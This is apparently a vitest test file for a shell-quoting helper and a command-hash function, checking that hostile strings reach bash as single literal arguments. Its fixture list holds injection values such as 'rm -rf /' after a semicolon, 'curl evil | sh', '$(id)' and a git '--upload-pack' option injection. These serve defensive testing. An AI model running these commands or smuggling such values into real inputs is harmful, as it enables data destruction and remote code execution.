import { execFileSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import { commandHash } from "#lib/command-hash.ts";
import { ValidationFailedError } from "#lib/errors.ts";
import { shellJoin, shellQuote } from "#lib/shell-quote.ts";

/** What bash actually receives as arguments when the quoted words are evaluated. */
function argumentsSeenByBash(words: readonly string[]): string[] {
  const script = `for a in ${shellJoin(words)}; do printf '%s\\0' "$a"; done`;
  return execFileSync("bash", ["-c", script], { encoding: "utf8" }).split("\0").slice(0, -1);
}

describe("shellQuote", () => {
  const hostile = [
    "https://example.com/repo.git; rm -rf /",
    "main && curl evil | sh",
    "$(id)",
    "`id`",
    "it's",
    "'''",
    "a\nb",
    "--upload-pack=touch /tmp/pwned",
    "*",
    "~root",
    "$HOME",
    "!!",
    "",
    "ünïcödé ✓",
  ];

  it.each(hostile)("passes %j to bash as exactly one literal argument", (value) => {
    expect(argumentsSeenByBash([value])).toEqual([value]);
  });

  it("keeps every word separate", () => {
    expect(argumentsSeenByBash(hostile)).toEqual(hostile);
  });

  it("quotes the simple case predictably", () => {
    expect(shellQuote("main")).toBe("'main'");
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
  });

  it("refuses a NUL byte, naming the field", () => {
    expect(() => shellQuote("a\0b", "source.branch")).toThrow(ValidationFailedError);
    expect(() => shellQuote("a\0b", "source.branch")).toThrow(/source\.branch/);
  });
});

describe("commandHash", () => {
  it("is the sha256 hex of the exact text", () => {
    expect(commandHash("npm test")).toBe("328e123c63857fd8473bd4bd3581e655b08b7440d7f5d2c31cc375607582f539");
    expect(commandHash("")).toBe("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    expect(commandHash("npm test")).not.toBe(commandHash("npm test "));
  });
});
